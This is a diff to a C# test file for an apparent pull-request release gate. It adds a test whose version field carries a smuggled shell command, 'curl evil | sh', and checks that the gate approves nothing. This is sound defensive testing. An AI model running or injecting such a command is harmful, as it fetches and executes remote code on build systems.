@@ -50,6 +50,19 @@ public sealed class DecisionTests : IDisposable
     }
 
     [Fact]
+    public async Task What_a_head_says_of_itself_is_no_fact_before_it_is_judged_to_be_so()
+    {
+        _scene.Change = document => document with { Version = "1.1.0\"; curl evil | sh #" };
+        _scene.Host.ForcePush(ReleaseScene.Bot, _scene.Files());
+
+        var outcome = await RunAsync();
+
+        outcome.Facts.Keys.ShouldBe(["decision", "pull_request", "head", "base"], ignoreOrder: true);
+        outcome.Summary.ShouldBe("nothing is approved");
+        outcome.Candidate.ShouldBeNull();
+    }
+
+    [Fact]
     public async Task The_record_holds_every_input_with_its_numbers_and_times()
     {
         var decision = (await RunAsync()).Decision.ShouldNotBeNull();
@@ -64,9 +77,9 @@ public sealed class DecisionTests : IDisposable
         decision.Permissions.Select(permission => (permission.Id, permission.Role)).ShouldBe([(21, "write"), (22, "write")]);
         decision.Checks.Select(check => (check.Id, check.State)).ShouldBe([(1, "failure"), (2, "success")]);
         decision.Commits.ShouldHaveSingleItem().Author!.Login.ShouldBe("acme-release[bot]");
-        decision.Changes.ShouldHaveSingleItem().Author!.Login.ShouldBe("dana");
+        decision.Changes.Select(change => change.Author!.Login).ShouldBe(["dana", "acme-release[bot]"]);
         decision.Proposers!.ShouldHaveSingleItem().Login.ShouldBe("pat");
-        decision.Arrival!.Pusher!.Login.ShouldBe("acme-release[bot]");
+        decision.Arrival!.Pushers.ShouldHaveSingleItem()!.Login.ShouldBe("acme-release[bot]");
     }
 
     [Fact]
@@ -109,7 +122,7 @@ public sealed class DecisionTests : IDisposable
         _scene.Host.Review(ReleaseScene.Sam, "CHANGES_REQUESTED");
         await _scene.ShouldBeAsync(GateDecision.Blocked, "objections");
 
-        _scene.Host.Arrival = new HeadArrival(null, null, null, null);
+        _scene.Host.Arrival = new HeadArrival(null, null, null, null, []);
         await _scene.ShouldBeAsync(GateDecision.Indeterminate, "head");
     }
 
@@ -137,7 +150,7 @@ public sealed class DecisionTests : IDisposable
         outcome.Decision!.Decision.ShouldBe("indeterminate");
         outcome.Decision.PullRequest!.Number.ShouldBe(12);
         outcome.Facts["decision"].ShouldBe("indeterminate");
-        outcome.Checks.ShouldHaveSingleItem().Reason.ShouldBe(@"nothing can be said of the pull request: broken\u{1B}[31m");
+        outcome.Checks.ShouldHaveSingleItem().Reason.ShouldBe(@"nothing can be said of the pull request: InvalidOperationException: broken\u{1B}[31m");
     }
 
     [Fact]
